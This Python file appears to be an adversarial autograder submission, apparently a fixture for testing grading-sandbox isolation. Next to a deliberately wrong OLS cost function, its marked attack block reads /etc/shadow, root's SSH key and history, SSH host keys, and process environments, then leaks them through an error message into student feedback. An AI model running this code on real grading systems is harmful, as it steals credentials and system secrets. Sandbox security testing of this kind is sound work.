"""Read secrets of the grading machine and print them into the student's own feedback:
/etc/shadow, SSH host keys, root's files, the environment and command line of other processes,
the grader's configuration and the Gradescope layout.

Wrong answer: ols_cost forgets the 1/2.
"""
import glob
import os


def ols_cost(X, y, beta):
    r = y - X @ beta
    return float(r @ r)


# ATTACK
leaked = []
paths = (["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.bash_history",
          "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/1/cmdline", "/etc/hostname",
          "__REPO__/pyproject.toml", "/autograder/source/otter_config.json"]
         + glob.glob("/etc/ssh/ssh_host_*") + glob.glob("/proc/[0-9]*/environ")[:50])
for path in paths:
    try:
        with open(path, "rb") as f:
            leaked.append(f"{path}: {f.read(80)!r}")
    except OSError:
        pass
# The sandbox's own environment is known and harmless; anything else is the grader's.
leaked += [f"{k}={v}" for k, v in os.environ.items()
           if k not in ("PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "MPLBACKEND", "MPLCONFIGDIR",
                        "PYTHONDONTWRITEBYTECODE", "PWD", "OPENBLAS_CORETYPE",
                        "OPENBLAS_L2_SIZE", "MALLOC_ARENA_MAX") and not k.endswith("_THREADS")]
if leaked:
    raise RuntimeError(f"ESCAPED: {leaked[:6]}")
# END ATTACK
